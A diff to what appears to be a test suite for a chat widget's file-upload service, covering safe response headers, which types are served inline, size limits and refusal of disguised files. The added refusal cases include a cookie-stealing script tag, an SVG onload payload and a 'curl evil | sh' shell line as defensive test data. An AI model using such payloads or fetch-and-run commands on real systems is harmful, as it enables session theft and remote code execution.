@@ -5,7 +5,7 @@ import assert from 'node:assert/strict';
 import { after, before, describe, test } from 'node:test';
 import { client, signup } from '../helpers/api.mjs';
 import { eventually, makeKey, newConversation, newVisitor, quietBot, SITE_ORIGIN, widgetClient } from '../helpers/chat.mjs';
-import { HOSTILE, MIME, r2BlobCount, SAMPLES, signedUrl } from '../helpers/files.mjs';
+import { DOCUMENTS, HOSTILE, MIME, r2BlobCount, SAMPLES, signedUrl, zipWith } from '../helpers/files.mjs';
 import { startWorker } from '../helpers/worker.mjs';
 
 let worker;
@@ -38,7 +38,7 @@ describe('round trips', () => {
   test('each_allowed_type_round_trips_byte_for_byte_with_safe_headers', async () => {
     const v = await newVisitor(w);
     const conv = await newConversation(w, v);
-    for (const [kind, bytes] of Object.entries(SAMPLES)) {
+    for (const [kind, bytes] of Object.entries({ ...SAMPLES, ...DOCUMENTS })) {
       const up = await upload(v, conv.id, bytes, { name: `sample.${kind === 'jpeg' ? 'jpg' : kind}`, declared: 'text/plain' });
       assert.equal(up.status, 201, `${kind}: ${JSON.stringify(up.body)}`);
       const data = up.body.event.data;
@@ -50,7 +50,8 @@ describe('round trips', () => {
       assert.equal(res.headers.get('content-type'), MIME[kind], 'the detected type, not the declared one');
       assert.equal(res.headers.get('x-content-type-options'), 'nosniff');
       assert.match(res.headers.get('content-security-policy'), /sandbox/);
-      assert.match(res.headers.get('content-disposition'), kind === 'pdf' ? /^attachment;/ : /^inline;/);
+      assert.match(res.headers.get('content-disposition'), MIME[kind].startsWith('image/') ? /^inline;/ : /^attachment;/, `${kind}: only images inline`);
+      assert.equal(data.image, MIME[kind].startsWith('image/'));
       const etag = res.headers.get('etag');
       assert.ok(etag);
       const again = await fetch(worker.url + data.url, { headers: { 'if-none-match': etag } });
@@ -101,6 +102,13 @@ describe('refusals', () => {
       [HOSTILE.exe, 'setup.exe', 'application/octet-stream', 415],
       [HOSTILE.exe, 'photo.png', 'image/png', 415],
       [Buffer.alloc(0), 'empty.png', 'image/png', 422],
+      // Markup and scripts stay refused as text, whatever their name; containers cannot wear an active name.
+      [Buffer.from('Hi!\n<script>alert(document.cookie)</script>'), 'notes.txt', 'text/plain', 415],
+      [Buffer.from('<svg onload=alert(1)>'), 'data.csv', 'text/csv', 415],
+      [Buffer.from('#!/bin/sh\ncurl evil | sh\n'), 'readme.txt', 'text/plain', 415],
+      [DOCUMENTS.doc, 'setup.msi', 'application/x-msi', 415],
+      [zipWith(['index.html']), 'site.html', 'application/zip', 422],
+      [DOCUMENTS.docx, 'report.js', 'application/javascript', 422],
     ];
     for (const [bytes, name, declared, status] of cases) {
       const r = await upload(v, conv.id, bytes, { name, declared });
@@ -115,7 +123,11 @@ describe('refusals', () => {
     const v = await newVisitor(w);
     const conv = await newConversation(w, v);
     const before = r2BlobCount(worker.state);
-    const tooBig = Buffer.concat([SAMPLES.pdf, Buffer.alloc(10 * 1024 * 1024)]);
+    // The default limit is 20 MiB: a file of exactly 20 MiB passes, one byte more does not.
+    const limit = 20 * 1024 * 1024;
+    const fits = Buffer.concat([SAMPLES.pdf, Buffer.alloc(limit - SAMPLES.pdf.length)]);
+    assert.equal((await upload(v, conv.id, fits, { name: 'exactly.pdf' })).status, 201);
+    const tooBig = Buffer.concat([fits, Buffer.alloc(1)]);
     const r = await upload(v, conv.id, tooBig, { name: 'huge.pdf' });
     assert.equal(r.status, 413);
     assert.equal(r.body.error.code, 'file_too_large');
@@ -132,7 +144,7 @@ describe('refusals', () => {
     const gif = await upload(tv, tc.id, SAMPLES.gif, { name: 'a.gif', widgetKey: tk.key });
     assert.equal(gif.status, 415, 'GIF is not in this tenant\'s allowlist');
     assert.equal((await upload(tv, tc.id, SAMPLES.png, { name: 'ok.png', widgetKey: tk.key })).status, 201);
-    assert.equal(r2BlobCount(worker.state), before + 1, 'only the accepted file is in R2');
+    assert.equal(r2BlobCount(worker.state), before + 2, 'only the accepted files are in R2');
   });
 });
 
